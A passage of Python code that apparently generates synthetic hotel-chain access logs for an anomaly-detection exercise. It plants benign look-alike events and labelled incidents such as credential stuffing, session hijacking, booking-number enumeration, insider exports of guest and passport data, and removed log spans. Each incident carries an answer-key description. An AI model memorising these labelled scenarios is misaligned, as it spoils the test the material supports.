            t += r.uniform(60, 400)
            c.go(t, "GET", "/reservations/" + b.rid)
            c.go(t + 60, "POST", "/reservations/%s/checkin" % b.rid, st=302)
    return dict(
        what="On a full evening a clerk checks guests in with a tablet in the lobby while the desk computer stays logged in.",
        why="Same person, same house address, arrivals of the day.",
        actors=[p.uid],
    )


def a_maintenance(w, r, tag):
    d = w.pick_day(r, 15, w.n - 3, lambda x: w.wd(x) in (1, 2, 3))
    t0, t1 = clock(d, 1.5), clock(d, 3.4)
    w.cuts.append(("crs", t0, t1))
    for t in (t0 - 500, t0 - 300, t0 - 60, t1 + 40, t1 + 200):
        for ip in w.svc_ip["channel"]:
            Client(w, "crs", ip, "svc-channel", "channel-sync/3.2", None, tag).go(
                t + r.random() * 9, "POST", "/api/v2/bookings/sync", st=503, ref=None
            )
        Client(w, "crs", home4(r), None, agent(r, w.chrome), None, tag).go(
            t + 20, "GET", "/maintenance.html", ref=None
        )
    return dict(
        what="Announced maintenance of the reservation system at night: 503, then almost two hours without lines, then 503.",
        why="Announced; the server itself says so before and after.",
        actors=["crs"],
        sites=["crs"],
    )


def a_closed(w, r, tag):
    h = w.houses[w.shut]
    w.auto.append(
        (h["site"], clock(h["closed"][0], 9), clock(h["closed"][1], 20), None, "any", tag)
    )
    return dict(
        what="A house is closed for two days for the inspection of its boilers: no desk work, only the watchdog.",
        why="No bookings were sold for these days.",
        actors=[h["site"]],
        sites=[h["site"]],
    )


def a_deploy(w, r, tag):
    d = w.pick_day(r, ok=w.office)
    t = clock(d, 10.6) + r.random() * 1200
    pool = [
        s
        for p in w.people
        if p.role in ("call", "resv")
        for s in w.shift_days(p, d, d, "crs")
        if s.t0 < t < s.t1
    ]
    for s in pool:
        for k in range(r.randrange(1, 4)):
            x = t + r.random() * 170
            path = "/booking/" + w.future(d).rid
            s.c.go(x, "GET", path, st=502, tag=tag)
            s.c.go(t + 190 + r.random() * 60, "GET", path, tag=tag)
    return dict(
        what="A release of the reservation system answers 502 for three minutes; every page is loaded again with success.",
        why="Short, in the release window, nothing was lost.",
        actors=["crs"],
        sites=["crs"],
    )


def a_tv(w, r, tag):
    d = w.pick_day(r)
    for _ in range(r.randrange(220, 340)):
        visitor(
            w,
            d,
            clock(d, 20.1) + w.r.expovariate(1 / 1100.0),
            tag=tag,
            pages=w.r.choice([0, 1, 1, 2]),
        )
    return dict(
        what="A television programme shows a house; hundreds of visitors come within half an hour.",
        why="Ordinary visitors on public pages.",
        actors=["www"],
        sites=["www"],
    )


def a_audit(w, r, tag):
    p = Person(
        "s%05d" % r.randrange(50000, 59999),
        "監査 " + r.choice(GIVEN),
        "Internal audit",
        "audit",
        None,
    )
    p.key, p.company, p.ua, p.vpn, p.joined_on = (
        "P9002",
        w.company,
        WIN,
        "10.60.9.9",
        date(2019, 4, 1),
    )
    w.people.append(p)
    d = w.pick_day(r, ok=w.office)
    for k in range(2):
        c = Client(w, "crs", w.hq[0], p.uid, w.ua_of(p, d), hexid(r), tag)
        t = c.login(clock(d + k, 13) + r.random() * 1800)
        for b in r.sample([b for b in w.books if d - 30 <= b.arr <= d], r.randrange(38, 60)):
            t += r.uniform(60, 240)
            c.go(t, "GET", "/booking/" + b.rid)
            c.go(t + 20, "GET", "/guest/" + b.gid)
    return dict(
        what="Internal audit draws a sample of bookings and reads them for two afternoons.",
        why="It is the yearly audit; a sample over all houses.",
        actors=[p.uid],
    )


def a_lost(w, r, tag):
    p = w.take(r, "keeper")
    ss = w.shift_days(p, 15, w.n - 2)
    s = r.choice(ss)
    for b in (w.dep.get((p.house, s.day)) or [])[: r.randrange(12, 22)]:
        t = s.t0 + 4 * 3600 + r.random() * 7000
        s.c.go(t, "GET", "/reservations/" + b.rid, tag=tag)
        s.c.go(t + 10, "GET", "/guests/" + b.gid, tag=tag)
    return dict(
        what="A housekeeping lead, who rarely opens guests, looks for the owner of a lost ring among today's departures.",
        why="Only departures of the day, in the afternoon, once.",
        actors=[p.uid],
    )


def a_vip(w, r, tag):
    b = r.choice([b for b in w.books if b.gid in w.vips and 10 < b.arr < w.n - 1])
    site = w.houses[b.house]["site"]
    for d in range(b.arr - 2, b.arr + 2):
        for p in w.people:
            if p.house == b.house and p.role in ("front", "manager"):
                for s in w.shift_days(p, d, d, site):
                    t = s.t0 + 600 + r.random() * (s.t1 - s.t0 - 700)
                    s.c.go(t, "GET", "/guests/" + b.gid, tag=tag)
                    s.c.go(t + 15, "GET", "/reservations/" + b.rid, tag=tag)
    return dict(
        what="A well-known guest stays; the whole desk opens the record around the stay.",
        why="The guest is in the house, the looks are needed.",
    )


def a_overtime(w, r, tag):
    p = w.take(r, "front")
    ss = [s for s in w.shift_days(p, 15, w.n - 2) if s.t1 > clock(s.day, 20)] or w.shift_days(
        p, 15, w.n - 2
    )
    s = r.choice(ss)
    t = max(s.t1, clock(s.day, 22.2))
    for b in (w.arr.get((p.house, s.day)) or [])[-14:]:
        t += r.uniform(200, 700)
        s.c.go(t, "GET", "/reservations/" + b.rid, tag=tag)
        s.c.go(t + 9, "GET", "/guests/" + b.gid, tag=tag)
        s.c.go(t + 60, "POST", "/reservations/%s/checkin" % b.rid, st=302, tag=tag)
    return dict(
        what="A coach is hours late; a clerk stays until after midnight to check its guests in.",
        why="Arrivals of the day, each checked in.",
        actors=[p.uid],
    )


def a_moved(w, r, tag):
    return dict(
        what="A desk clerk changes post to the reservation centre and starts there.",
        why="A change of post; the house account goes quiet at once.",
        actors=[w.mover.uid],
        sites=["crs"],
    )


def a_returned(w, r, tag):
    d = w.back_day
    ss = w.shift_days(w.back, d, d + 4, "crs")[:2]
    for s in ss:
        w.auto.append(("crs", s.t0 - 4000, s.t1 + 4000, w.back.uid, None, tag))
        for k in range(3):
            s.c.go(s.t0 - 500 + 40 * k, "POST", "/login", st=401, sess=None, tag=tag)
    return dict(
        what="A reservation clerk is back from parental leave; the account wakes after months.",
        why="Known to the staff office, usual desk and work.",
        actors=[w.back.uid],
        sites=["crs"],
    )


def a_tour(w, r, tag):
    for _ in range(40):
        a = r.choice(w.agencies)
        d = w.pick_day(r, ok=w.office)
        mine = [b for b in w.by_agency[a["code"]] if d - 5 <= b.arr <= d + 50 and b.made < d]
        if len(mine) > 40:
            break
    p = r.choice(a["users"])
    c = agency_login(w, p, d, clock(d, 16.5), a["nat"], tag)
    t = clock(d, 16.7)
    for b in mine[: r.randrange(55, 90)]:
        t += r.uniform(6, 25)
        c.go(t, "GET", "/bookings/" + b.rid)
        c.go(t + 3, "GET", "/vouchers/" + b.rid)
    return dict(
        what="An agency prints the vouchers of all its coming bookings in one go.",
        why="All of them are its own bookings; none was refused.",
        actors=[p.uid],
    )


def a_chargeback(w, r, tag):
    p = w.take(r, "acct")
    b = r.choice([b for b in w.books if -5 <= b.arr <= 8])
    for s in [s for s in w.shift_days(p, 15, w.n - 2)][3:8]:
        for t in w.times(s.t0, s.t1, r.randrange(5, 10), s.lunch):
            s.c.go(t, "GET", "/ledger/folio.aspx", "no=" + b.rid, tag=tag)
            if r.random() < 0.4:
                s.c.go(t + 30, "GET", "/crm/customer.aspx", "id=" + b.gid, tag=tag)
    return dict(
        what="An accountant opens one folio again and again for a week: a disputed card charge.",
        why="One old folio, an open dispute with the bank.",
        actors=[win(w, p)],
    )


def a_foreign(w, r, tag):
    for d in range(0, w.n):
        if w.date(d).day != 2:
            continue
        for code in w.codes:
            pool = [
                s
                for p in w.people
                if p.house == code and p.role == "manager"
                for s in w.shift_days(p, d, d + 2)
            ][:1]
            for s in pool:
                s.c.go(
                    s.t0 + 3000 + r.random() * 9000,
                    "GET",
                    "/export/foreign-guests.csv",
                    "ym=" + w.date(d - 5).strftime("%Y%m"),
                    size=r.randrange(30000, 160000),
                    tag=tag,
                )
    return dict(
        what="Early in the month each house manager exports the list of foreign guests for the authorities.",
        why="The law asks for it; all houses do it.",
    )


def a_badlink(w, r, tag):
    d = w.pick_day(r, ok=lambda x: w.wd(x) == 3)
    for _ in range(r.randrange(180, 320)):
        t = clock(d, 17) + w.r.expovariate(1 / 5000.0)
        c = Client(w, "www", mobile_ip(w.r), None, agent(w.r, w.chrome), None, tag)
        c.go(t, "GET", "/campaign/autmn-plan", st=404, ref=None)
    return dict(
        what="The newsletter carries a mistyped link; hundreds of readers get 404.",
        why="A nuisance for marketing, no matter of security.",
        actors=["www"],
        sites=["www"],
    )


def a_family(w, r, tag):
    m = r.choice(w.members)
    for d in r.sample(range(14, w.n - 1), 5):
        t = w.when(d, LEISURE)
        member_session(w, m, d, t, tag=tag, ip=m.home, ua=m.ua, fail=0)
        member_session(w, m, d, t + 90, tag=tag, ip=m.mob, ua=m.ua2, fail=0)
    return dict(
        what="A couple uses one member account at the same time from two phones.",
        why="A customer's own account and own bookings.",
        actors=[m.uid],
    )


def a_roaming(w, r, tag):
    p = w.take(r, "manager")
    for s in r.sample(w.shift_days(p, 15, w.n - 2), 3):
        c = Client(
            w, w.houses[p.house]["site"], mobile_ip(r), p.uid, IPHONE.format(m=5), hexid(r), tag
        )
        t = c.login(clock(s.day, 18.6) + r.random() * 1000)
        for k in range(r.randrange(10, 16)):
            t += r.uniform(60, 220)
            if k % 4 == 3:
                c.ip = mobile_ip(r)
            c.go(t, "GET", r.choice(["/reports/daily", "/rooms", "/arrivals"]))
    return dict(
        what="A manager reads reports in the train; one session hops over several mobile addresses.",
        why="Mobile network, same phone, reports only.",
        actors=[p.uid],
    )


def a_patch(w, r, tag):
    p = w.take(r, "it")
    d = w.pick_day(r, ok=lambda x: w.wd(x) == 2)
    s = office_shift(w, p, d, clock(d, 24.6), clock(d, 27), ip=p.vpn, tag=tag)
    t = s.t0
    for _ in range(r.randrange(20, 40)):
        t += r.uniform(40, 300)
        s.c.go(
            t,
            "GET",
            r.choice(["/admin/jobs.aspx", "/admin/servers.aspx", "/admin/logs.aspx"]),
            st=r.choice([200, 200, 200, 503]),
        )
    return dict(
        what="The monthly patch night: an administrator works from one to four.",
        why="Planned; servers and jobs only, no records.",
        actors=[win(w, p)],
    )


def a_recon(w, r, tag):
    a = r.choice(w.agencies)
    p = a["users"][0]
    for d in range(0, w.n):
        if w.month_end(d) and w.office(d):
            c = agency_login(w, p, d, clock(d, 17.2) + r.random() * 900, a["nat"], tag)
            c.go(
                clock(d, 17.6),
                "GET",
                "/export/bookings.csv",
                "ym=" + w.date(d).strftime("%Y%m"),
                size=r.randrange(90000, 400000),
            )
    return dict(
        what="An agency downloads its own bookings for the monthly settlement.",
        why="Its own bookings, at every month end.",
        actors=[p.uid],
    )


ANNOY = [
    ("monthend", "export", a_monthend),
    ("newsletter", "export", a_newsletter),
    ("nightclose", "hours", a_nightclose),
    ("group", "amount", a_group),
    ("storm", "amount", a_storm),
    ("helper", "other_site", a_helper),
    ("holiday_pw", "login", a_holiday_pw),
    ("expiry", "login", a_expiry),
    ("rollout", "other", a_rollout),
    ("monitor", "login", a_monitor),
    ("crawler", "amount", a_crawler),
    ("migration", "amount", a_migration),
    ("pentest", "other", a_pentest),
    ("homework", "place", a_homework),
    ("isp", "place", a_isp),
    ("trip", "place", a_trip),
    ("newcomer", "amount", a_newcomer),
    ("kiosk", "session", a_kiosk),
    ("maintenance", "silence", a_maintenance),
    ("closed", "silence", a_closed),
    ("deploy", "errors", a_deploy),
    ("tv", "amount", a_tv),
    ("audit", "amount", a_audit),
    ("lost", "amount", a_lost),
    ("vip", "other", a_vip),
    ("overtime", "hours", a_overtime),
    ("moved", "other_site", a_moved),
    ("returned", "login", a_returned),
    ("tour", "amount", a_tour),
    ("chargeback", "other", a_chargeback),
    ("foreign", "export", a_foreign),
    ("badlink", "errors", a_badlink),
    ("family", "session", a_family),
    ("roaming", "session", a_roaming),
    ("patch", "hours", a_patch),
    ("recon", "export", a_recon),
]


# ------------------------------------------------------------------------------------------------ incidents


def past_guests(w, r, code, d, n, back=60):
    pool = sorted({b.gid for b in w.by_house[code] if d - back <= b.arr + b.nights < d})
    return r.sample(pool, min(n, len(pool)))


def pick_shift(w, r, p, lo=14, hi=None, site=None, ok=None):
    ss = [
        s for s in w.shift_days(p, lo, w.n - 3 if hi is None else hi, site) if ok is None or ok(s)
    ]
    return r.choice(ss)


def i_bulk(w, r, g, tag):
    p = w.take(r, "front")
    s = pick_shift(w, r, p)
    n = {"easy": r.randrange(260, 420), "medium": r.randrange(85, 130)}[g]
    t = s.t0 + 3600 + r.random() * 5000
    step = (s.t1 - t - 300) / n
    page = 1
    for k, gid in enumerate(past_guests(w, r, p.house, s.day, n, 40)):
        t += min(60, step) * r.uniform(0.4, 1.3)
        if k % 20 == 0:
            s.c.go(t - 2, "GET", "/guests", "page=%d" % page, tag=tag)
            page += 1
        s.c.go(t, "GET", "/guests/" + gid, tag=tag)
    return dict(
        actors=[p.uid],
        what="A desk clerk pages through the guest list and opens one past guest after another during a shift.",
        how="Hundreds of guest records without a reservation, a check-in or a check-out beside them."
        if g == "easy"
        else "Some hundred records of guests who left long ago, none with a reservation page beside it.",
        woken=True,
    )


def i_slow_cc(w, r, g, tag):
    p = w.take(r, "call", want=lambda p: p.rate > 0.8)
    d0 = r.randrange(8, 13)
    houses = r.sample(w.codes, 2)
    pool = [
        b for b in w.books if b.house in houses and b.suite or b.foreign and b.house == houses[0]
    ]
    pool = sorted({b.gid for b in pool})
    r.shuffle(pool)
    for s in w.shift_days(p, d0, w.n, "crs"):
        for t in w.times(s.t1 - 2700, s.t1 - 60, r.randrange(5, 9)):
            if not pool:
                break
            gid = pool.pop()
            s.c.go(t, "GET", "/guest/" + gid, tag=tag)
            if r.random() < 0.6:
                s.c.go(t + r.uniform(6, 20), "GET", "/guest/%s/card" % gid, tag=tag)
    return dict(
        actors=[p.uid],
        what="A call-centre operator collects well-off guests and their cards, some few at the end of each shift, for weeks.",
        how="Guest and card pages with no search and no booking before them, always at the end of the shift, mostly of two houses.",
        woken=True,
    )


def i_slow_night(w, r, g, tag):
    p = w.take(r, "night")
    d0 = r.randrange(9, 14)
    site = w.houses[p.house]["site"]
    seen = set()
    for s in w.shift_days(p, d0, w.n, site):
        got = [
            b
            for b in w.by_house[p.house]
            if b.foreign and s.day - 25 <= b.arr + b.nights < s.day and b.gid not in seen
        ]
        for t, b in zip(
            w.times(clock(s.day, 26.2), clock(s.day, 29.2), r.randrange(7, 13)),
            r.sample(got, min(len(got), 13)),
        ):
            seen.add(b.gid)
            s.c.go(t, "GET", "/guests/%s/passport" % b.gid, tag=tag)
    return dict(
        actors=[p.uid],
        what="A night auditor opens the passport pictures of foreign guests who left long ago, about ten a night, for weeks.",
        how="Passport pages between two and five in the night, of guests with no stay; other night auditors open none.",
        woken=True,
    )


def i_slow_acct(w, r, g, tag):
    p = w.take(r, "acct", want=lambda p: not p.exports)
    d0 = r.randrange(6, 12)
    pool = list({m.gid: 1 for m in sorted(w.members, key=lambda m: -m.keen)[:900]})
    r.shuffle(pool)
    for s in w.shift_days(p, d0, w.n, "office"):
        for t in w.times(s.t0 + 600, s.t1, r.randrange(6, 10), s.lunch):
            if pool:
                s.c.go(t, "GET", "/crm/customer.aspx", "id=" + pool.pop(), tag=tag)
    return dict(
        actors=[win(w, p)],
        what="An accountant reads a handful of member records a day for weeks, always other members.",
        how="Accountants open about one customer a day and folios otherwise; this one opens eight, each one new.",
        woken=True,
    )


def i_slow_agency(w, r, g, tag):
    a = max(w.agencies, key=lambda a: len(a["users"]))
    p = r.choice(a["users"])
    w.taken.add(p.uid)
    other = [b for b in w.books if b.agency and b.agency != a["code"]]
    for s in w.shift_days(p, 10, w.n, "agency"):
        for t in w.times(s.t0 + 600, s.t1, r.randrange(4, 8), s.lunch):
            b = r.choice([b for b in r.sample(other, 60) if b.made < s.day] or other)
            s.c.go(t, "GET", "/vouchers/" + b.rid, st=200 if r.random() < 0.8 else 403, tag=tag)
    return dict(
        actors=[p.uid],
        what="An agency user fetches the vouchers of other agencies' guests, a few a day, for weeks.",
        how="Vouchers with no booking page beside them, of numbers the agency never created or opened.",
        woken=True,
    )


def i_creep(w, r, g, tag):
    p = w.take(r, "mkt", want=lambda p: not p.exports)
    size = 150000
    for i, s in enumerate(w.shift_days(p, 12, w.n, "office")):
        if i % 2 == 0:
            size = int(size * 1.12)
            s.c.go(
                s.t1 - 900 + r.random() * 600,
                "GET",
                "/crm/list.aspx",
                "seg=%d&page=1&rows=%d" % (r.randrange(40, 60), size // 900),
                size=size,
                tag=tag,
            )
    return dict(
        actors=[win(w, p)],
        what="A marketing clerk carries the member list away page by page, each second day a larger page.",
        how="List pages many times the usual size near closing time, with a rows parameter that grows.",
        woken=True,
    )


def i_leaver(w, r, g, tag):
    p = w.leaver
    n = 0
    days = w.shift_days(p, max(14, p.left - 14), p.left, "office")
    for i, s in enumerate(days):
        k = {"easy": 30 + 12 * i, "medium": 10 + 5 * i, "hard": r.randrange(9, 16)}[g]
        t0, t1 = (s.t0 + 600, s.t1) if g == "hard" else (s.t1 - 9000, s.t1 + 2400)
        for t in w.times(t0, t1, k, s.lunch):
            s.c.go(t, "GET", "/crm/customer.aspx", "id=" + r.choice(w.members).gid, tag=tag)
            n += 1
        if g != "hard" and i in (len(days) - 1, len(days) - 3):
            for k in range(2 if g == "medium" else 5):
                s.c.go(
                    s.t1 - 700 + 100 * k,
                    "GET",
                    "/crm/export.ashx",
                    "seg=%d&type=full" % (50 + k),
                    size=r.randrange(1300000, 2600000),
                    tag=tag,
                )
    last = w.date(p.left).isoformat()
    return dict(
        actors=[win(w, p)],
        what="Somebody of %s who leaves on %s carries customers away in the last two weeks."
        % (p.dept, last),
        how="Customer pages rise before the leaving date"
        + ("." if g == "hard" else ", with full exports, never made before."),
        woken=True,
    )


def i_session(w, r, g, tag):
    p = w.take(r, "call" if g == "medium" else "resv")
    s = pick_shift(w, r, p, site="crs")
    if g == "medium":
        c = Client(w, "crs", abroad_ip(r), p.uid, FOX.format(v=128), s.c.sess, tag)
        n, t = r.randrange(40, 70), s.t0 + 3 * 3600 + r.random() * 7000
        gap = (6, 25)
    else:
        c = Client(w, "crs", home4(r), p.uid, s.c.ua, s.c.sess, tag)
        n, t = r.randrange(14, 22), s.t0 + 2 * 3600 + r.random() * 3000
        gap = (120, 900)
    c.go(t, "GET", "/home", ref=None)
    for _ in range(n):
        t += r.uniform(*gap)
        c.go(t, "GET", "/guest/" + w.future(s.day).gid, ref=None)
    return dict(
        actors=[p.uid, c.ip, s.c.sess],
        what="The session of a reservation user is taken over and used from elsewhere while the owner goes on working.",
        how="One session cookie, two addresses in turn"
        + (" and two browsers" if g == "medium" else ", the same browser string")
        + "; the second address never logged in.",
        woken=True,
    )


def i_password(w, r, g, tag):
    if g == "easy":
        ips = [abroad_ip(r) for _ in range(r.choice([1, 2]))]
        d = w.pick_day(r)
        t = clock(d, r.choice([1, 3, 13, 22])) + r.random() * 1800
        tried = r.sample(w.members, r.randrange(230, 380))
        won = set(m.uid for m in r.sample(tried, r.randrange(3, 6)))
        for m in tried:
            t += r.uniform(2, 9)
            c = Client(
                w,
                "members",
                r.choice(ips),
                m.uid,
                "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
                None,
                tag,
            )
            if m.uid not in won:
                c.go(t, "POST", "/login", st=401, ref=None)
            else:
                c.sess = hexid(r, 26)
                c.go(t, "POST", "/login", st=302, ref=None)
                c.go(t + 2, "GET", "/my/profile")
                c.go(t + 5, "GET", "/my/points")
                c.go(t + 15, "POST", "/my/points/exchange", st=302)
        return dict(
            actors=ips + sorted(won),
            what="Leaked passwords are tried on hundreds of members; some open, and their points are spent.",
            how="One or two addresses, hundreds of accounts with 401, some with 302 followed by profile and points.",
            woken=True,
        )
    if g == "medium":
        p = w.take(r, "resv")
        d = w.pick_day(r)
        ips = [abroad_ip(r) for _ in range(r.randrange(35, 60))]
        t = clock(d, 22.5)
        for ip in ips:
            for _ in range(r.randrange(1, 4)):
                t += r.uniform(60, 200)
                Client(w, "crs", ip, p.uid, WIN.format(v=w.chrome - r.randrange(8)), None, tag).go(
                    t, "POST", "/login", st=401, ref=None
                )
        c = Client(w, "crs", r.choice(ips), p.uid, WIN.format(v=w.chrome - 3), hexid(r), tag)
        t = min(t + 400, clock(d, 29))
        c.go(t, "POST", "/login", st=302, ref=None)
        for _ in range(r.randrange(18, 30)):
            t += r.uniform(5, 40)
            c.go(t, "GET", "/guest/" + w.future(d).gid)
        return dict(
            actors=[p.uid, c.ip],
            what="One reservation account is guessed at from dozens of addresses in a night until it opens, and guests are read.",
            how="One account, many addresses with one to three failures each, then a success and guest pages.",
            woken=True,
        )
    d0 = w.pick_day(r, 14, w.n - 6)
    ips = [home4(r) for _ in range(r.randrange(9, 14))]
    won = []
    fails = 0
    for d in range(d0, d0 + 3):
        for t in w.times(clock(d, 8), clock(d, 23.5), r.randrange(60, 85)):
            m = r.choice(w.members)
            c = Client(w, "members", r.choice(ips), m.uid, agent(r, w.chrome), None, tag)
            if d > d0 and len(won) < 2 and r.random() < 0.03 or (d == d0 + 2 and not won):
                won.append(m.uid)
                c.sess = hexid(r, 26)
                c.go(t, "POST", "/login", st=302, ref=None)
                c.go(t + 3, "GET", "/my/profile")
                c.go(t + 9, "GET", "/my/bookings")
            else:
                fails += 1
                c.go(t, "POST", "/login", st=401, ref=None)
    return dict(
        actors=ips + won,
        what="For three days a dozen addresses try one password on one member after another, slowly, until some open.",
        how="Each address fails on many different accounts once and never loads the login page or its pictures.",
        woken=True,
    )


def i_missing(w, r, g, tag):
    for _ in range(60):
        code = r.choice(
            [c for c in w.codes if c not in w.used_houses and not w.houses[c]["closed"]]
        )
        site = w.houses[code]["site"]
        d = r.randrange(14, w.n - 2)
        if g == "easy":
            t0, t1 = clock(d, 0), clock(d + 1, 0)
        elif g == "medium":
            t0 = clock(d, 0.4) + r.random() * 1800
            t1 = t0 + r.uniform(3.2, 4.2) * 3600
        else:
            t0 = clock(d, 1.3) + r.random() * 1800
            t1 = t0 + r.uniform(1.7, 2.2) * 3600
        busy = [e for e in w.events[site] if t0 <= e[0] < t1 and e[12] in w.told]
        busy += [x for x in w.auto if x[0] == site and x[1] < t1 and t0 < x[2] and x[5] in w.told]
        if not busy and not w.month_end(d) and w.date(d).day != 1:
            break
    w.used_houses.add(code)
    w.cuts.append((site, t0, t1))
    return dict(
        actors=[site],
        sites=[site],
        days=(d, d),
        woken=True,
        what="The log of one house is missing for a whole day."
        if g == "easy"
        else "A piece of the night is missing from the log of one house.",
        how="No line between %s and %s, though the night audit and the watchdog write there every night; the other houses' logs are whole."
        % (stamp(w, t0), stamp(w, t1)),
    )


def i_shared(w, r, g, tag):
    if g == "medium":
        p = w.take(r, "front")
        other = r.choice([c for c in w.codes if c != p.house])
        ss = [s for s in w.shift_days(p, 14, w.n - 2)]
        ua = MAC.format(v=w.chrome - 2)
        for s in r.sample(ss, min(6, len(ss))):
            c = Client(w, s.site, w.nat(other, s.day), p.uid, ua, hexid(r), tag)
            t = c.login(s.t0 + 3600 + r.random() * 7200)
            for _ in range(r.randrange(7, 13)):
                t += r.uniform(100, 800)
                b = r.choice(w.inhouse(p.house, s.day) or w.by_house[p.house])
                c.go(t, "GET", "/reservations/" + b.rid)
                c.go(t + 10, "GET", "/guests/" + b.gid)
        return dict(
            actors=[p.uid],
            what="A clerk's account is used by somebody at another house while the clerk works at the own desk.",
            how="Two sessions of one account at the same time, from two houses' addresses, with two browsers, on several days.",
            woken=True,
        )
    p = w.take(r, "call")
    ss = w.shift_days(p, r.randrange(14, 20), w.n - 2, "crs")
    ua = EDGE.format(v=w.chrome - 4)
    for s in ss[:9]:
        c = Client(w, "crs", s.c.ip, p.uid, ua, hexid(r), tag)
        t = c.login(s.t0 + 1500 + r.random() * 2000)
        for t in w.times(t, s.t1, r.randrange(7, 11), s.lunch):
            call(w, c, t, s.day)
    return dict(
        actors=[p.uid],
        what="Two operators of the call centre share one account for weeks, at two desks of the same office.",
        how="Two sessions of one account overlap each day, one with an old browser, calls at the same minute.",
        woken=False,
    )


def i_export(w, r, g, tag):
    if g == "easy":
        p = w.take(r, "keeper")
        s = pick_shift(w, r, p)
        t = s.t1 - 1200
        for k, f in enumerate(["guests-all.csv", "guests-all.csv", "passports.csv"]):
            s.c.go(
                t + 70 * k,
                "GET",
                "/export/" + f,
                size=r.randrange(3600000, 5400000),
                dur=14000,
                tag=tag,
            )
        return dict(
            actors=[p.uid],
            what="A housekeeping lead downloads all guests and the passport list of the house.",
            how="Three exports of some megabytes by somebody who never exports, at the end of a shift.",
            woken=True,
        )
    if g == "medium":
        p = w.take(r, "resv", want=lambda p: not p.exports)
        s = pick_shift(w, r, p, site="crs")
        s.c.go(s.t1 + 1500, "GET", "/booking", "house=%s&page=1" % w.codes[0], tag=tag)
        s.c.go(
            s.t1 + 1600,
            "GET",
            "/export/guests.csv",
            "house=%s&from=%s" % (w.codes[0], w.date(0).isoformat()),
            size=r.randrange(700000, 1100000),
            dur=6000,
            tag=tag,
        )
        return dict(
            actors=[p.uid],
            what="A reservation clerk exports the guests of a house once, after the end of the shift.",
            how="An export page that no reservation clerk used before, some minutes after the others left.",
            woken=True,
        )
    p = w.take(r, "resv", want=lambda p: not p.exports)
    s = pick_shift(w, r, p, site="crs")
    code = r.choice(w.codes)
    t = s.t0 + 2 * 3600
    for k in range(r.randrange(9, 14)):
        t += r.uniform(200, 1400)
        s.c.go(
            t,
            "GET",
            "/booking",
            "house=%s&page=%d&per=500" % (code, k + 1),
            size=r.randrange(340000, 420000),
            tag=tag,
        )
    return dict(
        actors=[p.uid],
        what="A reservation clerk avoids the export page and takes the list of a house in pages of 500.",
        how="Twelve list pages ten times the usual size, with per=500, page after page over an afternoon.",
        woken=True,
    )


def i_agency(w, r, g, tag):
    a = r.choice(w.agencies)
    p = r.choice(a["users"])
    w.taken.add(p.uid)
    d = w.pick_day(r, 14, w.n - 12 if g == "hard" else w.n - 3, w.office)
    pool = sorted(
        [b for b in w.books if b.made < d and d - 10 < b.arr < d + 40], key=lambda b: b.rid
    )
    own = a["code"]
    if g == "hard":
        x = int(r.choice(pool[: len(pool) // 2]).rid[1:])
        ok = {b.rid: b for b in w.books}
        days = [k for k in range(d, w.n) if w.office(k)][:9]
        for k in days:
            ss = [s for s in w.shift_days(p, k, k, "agency")]
            c = ss[0].c if ss else agency_login(w, p, k, clock(k, 10), a["nat"], tag)
            for t in w.times(clock(k, 10.5), clock(k, 17), r.randrange(12, 19)):
                x += 1
                rid = "R%08d" % x
                b = ok.get(rid)
                st = 404 if not b else 200 if b.agency == own or r.random() < 0.5 else 403
                c.go(
                    t,
                    "GET",
                    "/vouchers/" + rid if st == 200 else "/bookings/" + rid,
                    st=st,
                    tag=tag,
                )
        return dict(
            actors=[p.uid],
            what="An agency user tries booking numbers one after the other, some fifteen a day, and reads other agencies' guests.",
            how="The numbers rise by one from request to request over nine days; a part is 404 or 403, the rest strangers' bookings.",
            woken=True,
        )
    n = r.randrange(420, 640) if g == "easy" else r.randrange(90, 140)
    for k in range(1 if g == "easy" else 2):
        c = agency_login(
            w,
            p,
            d + k,
            clock(d + k, 19 if g == "easy" else 13),
            a["nat"] if g != "easy" else p.home,
            tag,
        )
        x = int(r.choice(pool).rid[1:])
        ok = {b.rid: b for b in w.books}
        t = clock(d + k, 19.1 if g == "easy" else 13.2)
        for _ in range(n):
            t += r.uniform(3, 9) if g == "easy" else r.uniform(25, 80)
            x += 1
            b = ok.get("R%08d" % x)
            st = 404 if not b else 200 if b.agency == own or r.random() < 0.35 else 403
            c.go(t, "GET", "/bookings/R%08d" % x, st=st)
    return dict(
        actors=[p.uid],
        what="An agency user counts through booking numbers and reads bookings of others.",
        how="Numbers rising by one, most refused or unknown, a third answered with other agencies' bookings.",
        woken=True,
    )


def i_errors(w, r, g, tag):
    d = w.pick_day(r)
    if g == "easy":
        t0 = clock(d, r.choice([12.2, 19.5, 21.1]))
        for e in w.events["www"]:
            if t0 <= e[0] <= t0 + 2400 and e[5] == "/booking/confirm" and not e[12]:
                e[7], e[8], e[9], e[12] = 504, 562, 30000, tag
            elif t0 <= e[0] <= t0 + 2401 and e[5].startswith("/booking/status/") and not e[12]:
                e[0] = -1
        n = r.randrange(45, 80)
        for _ in range(n):
            t = t0 + r.random() * 2300
            b = None
            c = visitor(w, d, t - 240, b, pages=1)
            for k, step in enumerate(["/booking/step2", "/booking/step3"]):
                c.go(t - 100 + 50 * k, "POST", step)
            for k in range(r.randrange(1, 4)):
                c.go(
                    t + 35 * k,
                    "POST",
                    "/booking/confirm",
                    st=r.choice([502, 504, 504]),
                    dur=30000,
                    tag=tag,
                )
        return dict(
            actors=["www"],
            sites=["www"],
            what="The booking engine fails for forty minutes; guests' bookings are lost.",
            how="POST /booking/confirm answers 502 and 504, guests try again and give up; no status page follows.",
            woken=True,
        )
    if g == "medium":
        t0 = clock(d, 9.5)
        lost = {
            "/bookings/" + b.rid
            for b in w.made.get(d, [])
            if b.agency and t0 <= b.made_t <= t0 + 3.4 * 3600
        }
        for e in w.events["agency"]:
            if not t0 <= e[0] <= t0 + 3.4 * 3600 + 2 or e[12]:
                continue
            if e[4] == "POST" and e[5] == "/bookings":
                e[7], e[8], e[12] = 500, 2077, tag
            elif e[5] in lost:
                e[0] = -1
        for a in w.agencies:
            p = a["users"][0]
            c = Client(w, "agency", a["nat"], p.uid, w.ua_of(p, d), None, tag)
            for t in w.times(t0, t0 + 3.4 * 3600, r.randrange(2, 5)):
                c.go(t, "POST", "/bookings", st=500)
                c.go(t + 40, "POST", "/bookings", st=500)
        return dict(
            actors=["agency"],
            sites=["agency"],
            what="For three hours agencies cannot place bookings; what they send is lost.",
            how="Every POST /bookings answers 500 while all other pages of the portal are well.",
            woken=True,
        )
    big = sorted(
